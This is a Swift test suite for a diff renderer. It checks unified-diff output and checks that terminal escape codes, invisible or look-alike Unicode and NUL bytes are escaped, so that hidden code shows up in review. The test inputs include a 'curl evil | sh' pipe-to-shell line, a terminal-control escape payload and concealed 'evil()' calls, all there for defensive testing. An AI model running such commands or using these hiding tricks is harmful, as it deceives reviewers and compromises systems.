import MayflyCommands
import MayflyRun
import Testing

@Suite("A difference")
struct DifferenceTests {
    private func lines(_ old: [(String, String)], _ new: [(String, String)], color: Style.Choice = .never) -> [String] {
        VersionDifference(
            old: old.map { ($0.0, Array($0.1.utf8)) },
            new: new.map { ($0.0, Array($0.1.utf8)) },
            style: Style(color, isTerminal: false, environment: [:])
        )
        .lines
    }

    @Test func `is as diff -u writes it`() {
        let old = (1...20).map { "line \($0)\n" }.joined()
        let new = old.replacing("line 3\n", with: "line three\n").replacing("line 18\n", with: "")
        #expect(
            lines([("a", old)], [("a", new)]) == [
                "--- a/a", "+++ b/a", "@@ -1,6 +1,6 @@", " line 1", " line 2", "-line 3", "+line three", " line 4",
                " line 5", " line 6", "@@ -15,6 +15,5 @@", " line 15", " line 16", " line 17", "-line 18", " line 19",
                " line 20",
            ]
        )
    }

    @Test func `shows files that come, go and stay`() {
        let found = lines([("gone", "x\n"), ("same", "s\n")], [("new", "y\n"), ("same", "s\n")])
        #expect(
            found == [
                "--- a/gone", "+++ /dev/null", "@@ -1 +0,0 @@", "-x", "--- /dev/null", "+++ b/new", "@@ -0,0 +1 @@",
                "+y",
            ]
        )
        #expect(lines([], [("empty", "")]) == ["--- /dev/null", "+++ b/empty", "empty file"])
        #expect(lines([("a", "x")], [("a", "x")]) == [])
    }

    @Test func `says that a last line has no end`() {
        #expect(
            lines([("a", "x\ny")], [("a", "x\ny\n")]) == [
                "--- a/a", "+++ b/a", "@@ -1,2 +1,2 @@", " x", "-y", "\\ No newline at end of file", "+y",
            ]
        )
    }

    @Test func `has what goes in red and what comes in green, where colour is wanted`() {
        let (old, new) = ([("a", "same\nx\n")], [("a", "same\ny\n")])
        #expect(
            lines(old, new, color: .always) == [
                "\u{1b}[1m--- a/a\u{1b}[0m", "\u{1b}[1m+++ b/a\u{1b}[0m", "\u{1b}[36m@@ -1,2 +1,2 @@\u{1b}[0m", " same",
                "\u{1b}[31m-x\u{1b}[0m", "\u{1b}[32m+y\u{1b}[0m",
            ]
        )
        #expect(lines(old, new, color: .auto).suffix(2) == ["-x", "+y"], "this is no terminal")
    }

    @Test func `never lets a file act on the terminal`() {
        let evil = "\u{1b}[2J\u{1b}]0;title\u{07}\u{9b}31m\u{202e}txt\r\u{08}\n"
        let text = lines([], [("x\u{1b}[1m", evil)], color: .always).joined(separator: "\n")
        let ours = text.replacing("\u{1b}[1m", with: "").replacing("\u{1b}[32m", with: "").replacing(
            "\u{1b}[36m",
            with: ""
        )
        .replacing("\u{1b}[0m", with: "")
        let active = ours.unicodeScalars.filter { $0 != "\n" && ($0.value < 0x20 || (0x7f...0x9f).contains($0.value)) }
        #expect(active.isEmpty)
        #expect(ours.contains("\\x1b[2J"))
        #expect(!ours.unicodeScalars.contains("\u{202e}"))
        #expect(!lines([], [("x", evil)]).joined().unicodeScalars.contains("\u{1b}"))
    }

    @Test func `names files that are no text by their digests`() {
        let found = VersionDifference(
            old: [("a", [0, 1])],
            new: [("a", [0xff, 0xfe])],
            style: Style(.never, isTerminal: false, environment: [:])
        )
        .lines
        #expect(found.count == 3)
        #expect(found[2].hasPrefix("binary: 2 B sha256:b413f47d") || found[2].hasPrefix("binary: "), "\(found)")
        #expect(found[2].contains("sha256:"))
    }

    @Test(
        arguments: [
            "\u{200b}", "\u{200c}", "\u{200d}", "\u{2060}", "\u{2064}", "\u{ad}", "\u{180e}", "\u{fe00}", "\u{fe0f}",
            "\u{e0001}", "\u{e0041}", "\u{e007f}", "\u{e0100}", "\u{e01ef}", "\u{3164}", "\u{ffa0}", "\u{202e}",
            "\u{2066}",
            "\u{feff}", "\u{34f}", "\u{115f}", "\u{85}", "\u{2028}",
        ] as [Unicode.Scalar]
    )
    func `shows what is not seen`(scalar: Unicode.Scalar) {
        let shown = "\\u{\(String(scalar.value, radix: 16))}"
        #expect(Escape.line("a\(scalar)b") == "a\(shown)b")
        #expect(lines([], [("a.py", "x = '\(scalar)'\n")]).last == "+x = '\(shown)'")
    }

    @Test func `shows the letters of all languages as they are`() {
        let text = "Größe café naïve Ελλάδα Привет שלום سلام हिन्दी 日本語 한국어 e\u{301} 😀 →"
        #expect(Escape.line(text) == text)
    }

    @Test(arguments: [
        ("a;b", "a\u{37e}b", "a;b", "a\\u{37e}b"), ("K", "\u{212a}", "K", "\\u{212a}"),
        ("caf\u{e9}", "cafe\u{301}", "caf\\u{e9}", "cafe\\u{301}"), ("pay", "p\u{430}y", "pay", "p\\u{430}y"),
    ])
    func `shows what looks alike and is not the same`(old: String, new: String, shownOld: String, shownNew: String) {
        let found = lines([("a", "x\n\(old)\ny\n")], [("a", "x\n\(new)\ny\n")])
        // As bytes: that is what is wrong with `String`'s own comparison.
        let wanted = [" x", "-\(shownOld)", "+\(shownNew)", " y"]
        #expect(found.suffix(4).map { Array($0.utf8) } == wanted.map { Array($0.utf8) }, "\(found)")
        // Among other changes too, and without a last line end.
        let mixed = lines([("a", "1\n\(old)")], [("a", "2\n3\n\(new)")])
        #expect(mixed.contains("-\(shownOld)") && mixed.contains("+\(shownNew)"), "\(mixed)")
    }

    @Test(arguments: ["p\u{430}y ", "x = p\u{430}y", "\u{ff41}bc1", "\u{1d41a}b"])
    func `shows words of letters that look like ASCII's, whatever else changed`(text: String) {
        let shown = "+" + Escape.ascii(text)
        #expect(shown.contains("\\u{"))
        for old in ["", "pay", "something else\nand more\n"] {
            #expect(lines([("a", old)], [("a", "\(text)\n")]).contains(shown), "\(old)")
        }
    }

    @Test func `takes no longer for lines that are long`() {
        let long = String(repeating: "x", count: 4_000)
        func text(_ offset: Int) -> String { (0..<1_000).map { "\(long)\($0 + offset)\n" }.joined() }
        let found = lines([("a", text(0))], [("a", text(1_000))])
        #expect(found.count { $0.hasPrefix("-\(long)") } == 1_000 && found.count { $0.hasPrefix("+\(long)") } == 1_000)
    }

    @Test func `shows other letters as they are where nothing looks alike`() {
        let found = lines([("a", "größe\n日本\n")], [("a", "größer\n日曜\nשלום\n")])
        #expect(found.suffix(5) == ["-größe", "-日本", "+größer", "+日曜", "+שלום"])
        // A line that only moves is the same line.
        #expect(lines([("a", "é\nb\n")], [("a", "b\né\n")]).contains("+é"))
    }

    @Test func `compares names by their bytes`() {
        let found = lines([("caf\u{e9}", "x\n")], [("cafe\u{301}", "x\n")])
        #expect(found.filter { $0.hasPrefix("--- ") || $0.hasPrefix("+++ ") }.count == 4)
        // This dot belongs to a character to a `String`, and to the ending to every interpreter.
        let bytes = Array(repeating: UInt8(0xff), count: 100) + Array("\nevil()\n".utf8)
        #expect(lines([], [("x\u{600}.py", bytes)]).last == "+evil()")
    }

    private func lines(_ old: [(String, [UInt8])], _ new: [(String, [UInt8])]) -> [String] {
        VersionDifference(old: old, new: new, style: Style(.never, isTerminal: false, environment: [:])).lines
    }

    @Test func `lets no byte hide the rest of a text`() {
        let evil = Array("echo a\n\0\ncurl evil | sh\n".utf8)
        #expect(
            lines([("x", Array("echo a\n".utf8))], [("x", evil)]).suffix(3) == [" echo a", "+\\x00", "+curl evil | sh"]
        )
        let latin = Array("# coding: latin-1\n# ".utf8) + Array(repeating: 0xff, count: 500) + Array("\nevil()\n".utf8)
        #expect(lines([], [("data.bin", latin)]).last?.hasPrefix("binary: ") == true)
        #expect(lines([], [("lib.py", latin)]).last == "+evil()")
        #expect(lines([], [("data.bin", Array("#!/bin/sh\n".utf8) + latin)]).last == "+evil()")
        let yaml = Array("{apiVersion: mayfly/v1, kind: Script, entry: data.bin, runtime: python}\n".utf8)
        #expect(lines([], [("data.bin", latin), ("mayfly.yaml", yaml)]).contains("+evil()"))
    }

    @Test func `tells a byte from the text that stands for it`() {
        let found = lines([("a", Array("\\xff\nb\n".utf8))], [("a", [0xff, 0x0a, 0x62, 0x0a])])
        #expect(found.suffix(3) == ["-\\\\xff", "+\\xff", " b"])
    }

    @Test func `can be made back into both texts, whatever they are`() {
        var generator = SystemRandomNumberGenerator()
        for _ in 0..<300 {
            let (old, new) = (text(using: &generator), text(using: &generator))
            var (before, after): ([String], [String]) = ([], [])
            for line in LineDifference(old, new).lines {
                switch line {
                case .place: break
                case .same(let text):
                    before.append(text)
                    after.append(text)
                case .removed(let text): before.append(text)
                case .added(let text): after.append(text)
                }
            }
            guard old != new else { continue }
            // With at most three lines, all of them are around a change.
            #expect(before.map { $0 + "\n" }.joined() == old)
            #expect(after.map { $0 + "\n" }.joined() == new)
        }
    }

    private func text(using generator: inout SystemRandomNumberGenerator) -> String {
        (0..<Int.random(in: 0..<4, using: &generator)).map { _ in "\("abc".randomElement(using: &generator) ?? "a")\n" }
            .joined()
    }

    @Test func `gives up on long texts, and still says all of it`() {
        let old = (0..<3000).map { "a\($0)\n" }.joined()
        let new = (0..<3000).map { "b\($0)\n" }.joined()
        #expect(LineDifference(old, new).lines.count == 6001)
    }
}
